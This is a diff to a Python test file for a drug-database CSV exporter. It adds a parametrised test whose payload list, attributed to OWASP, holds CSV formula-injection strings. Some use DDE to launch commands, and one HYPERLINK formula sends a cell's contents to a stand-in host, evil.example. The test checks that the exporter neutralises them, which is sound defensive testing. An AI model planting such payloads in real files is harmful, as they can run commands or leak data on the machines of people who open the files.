@@ -607,6 +607,37 @@ def test_csv_neutralises_spreadsheet_formulas():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
+# OWASP's CSV injection examples, and the characters it lists as formula triggers.
+OWASP_CSV_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=1+2";=1+2',
+    "=10+20+cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("payload", OWASP_CSV_PAYLOADS)
+def test_csv_neutralises_formulas_within_list_cells(payload):
+    make_drug(
+        "Safe",
+        generic_name=payload,
+        other_names=f"safe\n{payload.strip()}",
+        classes=[make_class("Safe class"), make_class(payload.strip())],
+        companies=[make_company("Acme"), make_company(payload.strip(), slug="payload")],
+    )
+    stream = io.StringIO()
+    interchange.write_csv(Drug.objects.all(), stream)
+    (row,) = csv.DictReader(io.StringIO(stream.getvalue()))
+    for column in ["generic_name", "other_names", "drug_classes", "companies"]:
+        for item in row[column].split(interchange.CSV_LIST_SEPARATOR):
+            assert not item.startswith(interchange.FORMULA_TRIGGERS), (column, row[column])
+
+
 def test_csv_has_a_row_per_drug_with_readable_labels():
     drug = make_drug(
         "Pomalyst",
